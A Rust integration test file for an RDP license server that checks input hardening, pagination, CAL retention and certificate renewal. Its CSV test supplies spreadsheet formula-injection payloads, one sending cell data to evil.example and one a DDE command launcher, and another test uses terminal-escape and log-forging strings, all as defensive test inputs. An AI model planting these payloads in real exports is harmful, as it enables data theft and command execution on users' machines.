//! Data hardening over real TLS with a real store (SQLite, and PostgreSQL when `RDLIC_TEST_PG_URL` is set): names
//! from RDP clients (the shared rule, non-ASCII names end to end), reports with bad entries, CSV formula injection,
//! paginated licenses, retention of temporary CALs, host certificate renewal.
#![allow(clippy::unwrap_used)]

mod common;

use common::{ask, backends, now, Fixture};
use rdlic_api::client::LicenseServerClient;
use rdlic_api::ClientError;
use rdlic_core::CalType;

fn api_code(e: &ClientError) -> (u16, String, String) {
    match e {
        ClientError::Api { status, code, message } => (*status, code.clone(), message.clone()),
        other => panic!("expected an API error, got {other}"),
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_ninety_character_cjk_user_name_gets_a_cal_and_bad_names_are_refused_in_words() {
    for backend in backends() {
        let fx = Fixture::start(backend).await;
        fx.activate().await;
        fx.install(&fx.vendor.pack(fx.server_id(), CalType::PerUser, 2022, 5)).await.unwrap();
        let host = fx.enroll("rdsh01").await;
        // 90 CJK characters: 270 UTF-8 bytes (the server used to allow 256), 90 UTF-16 units (Windows allows 255).
        let cjk: String = "山田太郎花子".chars().cycle().take(90).collect();
        let mut a = ask(1);
        a.user = cjk.clone();
        a.client_machine = "ÉCOLE-PC".to_owned();
        let cal = host.issue_device_cal(&a).await.unwrap();
        let list = fx.admin.get("/api/v1/admin/licenses").await.unwrap();
        let listed = &list["licenses"][0];
        assert_eq!(listed["user"], cjk.as_str(), "{backend:?}");
        assert_eq!(listed["serial"], cal.serial.as_str());
        let user = host.checkout_user_cal(&format!("EXEMPLE\\{cjk}"), 2022).await.unwrap();
        assert_eq!(user.user, format!("EXEMPLE\\{cjk}"));

        let mut tab = ask(2);
        tab.user = "bad\tuser".to_owned();
        let (status, _, msg) = api_code(&host.issue_device_cal(&tab).await.unwrap_err());
        assert_eq!(status, 400);
        assert!(msg.contains("control character") && msg.contains("\\t") && !msg.contains('\t'), "{msg}");
        let mut long = ask(3);
        long.user = "山".repeat(256);
        let (status, _, msg) = api_code(&host.issue_device_cal(&long).await.unwrap_err());
        assert_eq!(status, 400);
        assert!(msg.contains("256 characters") && msg.contains("UTF-16"), "{msg}");
        fx.server.shutdown().await;
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_report_with_bad_entries_is_kept_with_the_entries_escaped_or_dropped() {
    let fx = Fixture::start(common::Backend::Sqlite).await;
    let host = fx.enroll("rdsh01").await;
    let t = now();
    let body = serde_json::json!({
        "licensing_mode": "per-device",
        "grace": { "state": "running", "days_left": 100 },
        "can_license": true,
        "findings": [
            { "check": "ok-check", "server": null, "severity": "ok", "cause": null, "evidence": "fine", "fixes": [] },
            { "check": "bad\ncheck", "server": null, "severity": "ok", "cause": null, "evidence": "x", "fixes": [] }
        ],
        "refusals": [
            { "at": t, "client": "PC\u{1b}[31m", "user": "WORKGROUP\\bad\tuser", "decision": "refuse errinfo=0x101",
              "reason": "line one\nforged: line two", "errinfo": 257, "license_server": null },
            { "at": t, "client": "PC2", "user": "山".repeat(600), "decision": "refused", "reason": "", "errinfo": null,
              "license_server": null }
        ],
    });
    let (status, text) =
        host.request_raw("POST", "/api/v1/host/report", Some(serde_json::to_vec(&body).unwrap())).await.unwrap();
    assert_eq!(status, 200, "the report is taken, not refused whole: {text}");
    let refusals = fx.admin.get("/api/v1/admin/refusals").await.unwrap();
    let list = refusals["refusals"].as_array().unwrap();
    assert_eq!(list.len(), 2, "{refusals}");
    let first = list.iter().find(|r| r["client"].as_str().unwrap().starts_with("PC\\u")).unwrap();
    assert_eq!(first["client"], "PC\\u{1b}[31m");
    assert_eq!(first["user"], "WORKGROUP\\bad\\tuser");
    assert_eq!(first["reason"], "line one\\nforged: line two");
    let second = list.iter().find(|r| r["client"] == "PC2").unwrap();
    assert_eq!(second["user"].as_str().unwrap().chars().count(), 511, "cut to the qualified-user limit");
    let hosts = fx.admin.get("/api/v1/admin/hosts").await.unwrap();
    let findings = hosts["hosts"][0]["report"]["findings"].as_array().unwrap();
    assert_eq!(findings.len(), 1, "the bad finding dropped, the good one kept: {hosts}");
    fx.server.shutdown().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn csv_reports_neutralise_formulas() {
    let fx = Fixture::start(common::Backend::Sqlite).await;
    fx.activate().await;
    fx.install(&fx.vendor.pack(fx.server_id(), CalType::PerUser, 2022, 5)).await.unwrap();
    let host = fx.enroll("rdsh01").await;
    let mut a = ask(1);
    a.user = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")".to_owned();
    a.client_machine = "@SUM(1+1)".to_owned();
    host.issue_device_cal(&a).await.unwrap();
    host.checkout_user_cal("+cmd|' /C calc'!A0", 2022).await.unwrap();
    let csv = fx.admin.get_text("/api/v1/admin/reports/per-device?format=csv").await.unwrap();
    let row = csv.lines().nth(1).unwrap();
    assert!(row.contains(",'@SUM(1+1),"), "{row}");
    assert!(row.contains(",\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\","), "{row}");
    let csv = fx.admin.get_text("/api/v1/admin/reports/per-user?format=csv").await.unwrap();
    assert!(csv.lines().nth(1).unwrap().starts_with("'+cmd|' /C calc'!A0,"), "{csv}");
    fx.server.shutdown().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn licenses_are_listed_a_page_at_a_time() {
    let fx = Fixture::start(common::Backend::Sqlite).await;
    let host = fx.enroll("rdsh01").await;
    for n in 0..7 {
        host.issue_device_cal(&ask(n)).await.unwrap();
    }
    let mut seen = Vec::new();
    let mut path = "/api/v1/admin/licenses?limit=3".to_owned();
    let mut pages = 0;
    loop {
        let page = fx.admin.get(&path).await.unwrap();
        pages += 1;
        let list = page["licenses"].as_array().unwrap();
        assert!(list.len() <= 3);
        seen.extend(list.iter().map(|c| c["serial"].as_str().unwrap().to_owned()));
        match page["next"].as_i64() {
            Some(next) => path = format!("/api/v1/admin/licenses?limit=3&after={next}"),
            None => break,
        }
    }
    assert_eq!(pages, 3);
    assert_eq!(seen.len(), 7);
    let mut unique = seen.clone();
    unique.dedup();
    assert_eq!(unique, seen, "in serial order, each once");
    // Without a limit: the default page; a limit above the largest page is lowered to it.
    let all = fx.admin.get("/api/v1/admin/licenses").await.unwrap();
    assert_eq!((all["licenses"].as_array().unwrap().len(), all["next"].is_null()), (7, true));
    assert_eq!(fx.admin.get("/api/v1/admin/licenses?limit=1000000").await.unwrap()["licenses"].as_array().unwrap().len(), 7);
    fx.server.shutdown().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn temporary_cals_expired_long_ago_are_deleted_and_audited() {
    for backend in backends() {
        let fx = Fixture::start(backend).await;
        let host = fx.enroll("rdsh01").await;
        let cal = host.issue_device_cal(&ask(1)).await.unwrap();
        // At start the retention pass found nothing to delete; 90 days past expiry, it deletes it.
        let state = fx.server.state.clone();
        assert_eq!(state.purge_expired_temporary_cals(90, now() + 150 * 86_400).await.unwrap(), 0);
        assert_eq!(state.purge_expired_temporary_cals(90, now() + 181 * 86_400).await.unwrap(), 1);
        let list = fx.admin.get("/api/v1/admin/licenses").await.unwrap();
        assert!(list["licenses"].as_array().unwrap().is_empty(), "{backend:?} {list}");
        let audit = fx.admin.get("/api/v1/admin/audit").await.unwrap();
        let purge = audit["entries"].as_array().unwrap().iter().find(|e| e["kind"] == "cal-purge").cloned().unwrap();
        assert_eq!(purge["subject"], cal.serial.as_str());
        assert_eq!(purge["actor"], "retention");
        fx.server.shutdown().await;
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_host_renews_its_certificate_and_both_certificates_work_until_they_end() {
    for backend in backends() {
        let fx = Fixture::start(backend).await;
        let old = fx.enroll("rdsh01").await;
        let dir = fx.tmp.0.join("host-rdsh01");
        let read_cert = || rdlic_api::tls::first_cert(&std::fs::read(dir.join(rdlic_api::client::HOST_CERT_FILE)).unwrap()).unwrap();
        let before = read_cert();
        // Not due: 825 days left.
        assert!(LicenseServerClient::renew_if_due(&dir, None, now(), 30).await.unwrap().is_none());
        // 800 days on (the host clock), 25 days left: renewed.
        let renewed = LicenseServerClient::renew_if_due(&dir, None, now() + 800 * 86_400, 30).await.unwrap().unwrap();
        let after = read_cert();
        assert_ne!(before.to_der().unwrap(), after.to_der().unwrap());
        assert!(renewed.expires_at > now() + 824 * 86_400);
        // A client made before the renewal presents the new certificate from its next connection on; one made now
        // reads the new files; both are served.
        old.issue_device_cal(&ask(1)).await.unwrap();
        LicenseServerClient::from_dir(&dir, None).unwrap().issue_device_cal(&ask(2)).await.unwrap();
        let audit = fx.admin.get("/api/v1/admin/audit").await.unwrap();
        assert!(audit["entries"].as_array().unwrap().iter().any(|e| e["kind"] == "host-certificate-renewal"), "{backend:?}");
        // A revoked host is refused whatever certificate it shows.
        let hosts = fx.admin.get("/api/v1/admin/hosts").await.unwrap();
        let id = hosts["hosts"][0]["id"].as_str().unwrap().to_owned();
        fx.admin.post(&format!("/api/v1/admin/hosts/{id}/revoke"), &serde_json::json!({})).await.unwrap();
        let fresh = LicenseServerClient::from_dir(&dir, None).unwrap();
        // The server caches a host for up to 2 s; a revocation through it clears the cache at once.
        assert_eq!(api_code(&fresh.issue_device_cal(&ask(3)).await.unwrap_err()).0, 403);
        fx.server.shutdown().await;
    }
}
